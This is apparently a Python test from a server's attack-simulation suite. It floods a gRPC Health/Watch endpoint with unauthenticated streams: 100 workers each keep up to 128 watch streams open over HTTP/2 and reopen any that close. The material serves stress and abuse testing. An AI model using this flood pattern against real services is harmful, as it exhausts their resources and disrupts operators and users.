"""Health watches without a key, over many HTTP/2 connections, each full of streams."""

from tests.parts.attackers.attack import Attack
from tests.parts.attackers.http2 import grpc_fields, grpc_message, http2
from tests.parts.attackers.wire import PATIENCE_SECONDS

STREAMS = 128
METHOD = "/grpc.health.v1.Health/Watch"


class HealthWatches(Attack):
    """Each hand holds a connection of 128 watches and opens every one that ends again."""

    hands = 100

    async def turn(self, number: int) -> None:
        async with http2(self.target, self.counts) as connection:
            while True:
                missing = min(STREAMS, connection.http2.remote_settings.max_concurrent_streams) - len(
                    connection.streams
                )
                for _ in range(missing):
                    stream = connection.open(grpc_fields(self.target, METHOD), ends=False)
                    connection.http2.send_data(stream, grpc_message(b""), end_stream=True)
                await connection.flush()
                await connection.receive(PATIENCE_SECONDS * 20)
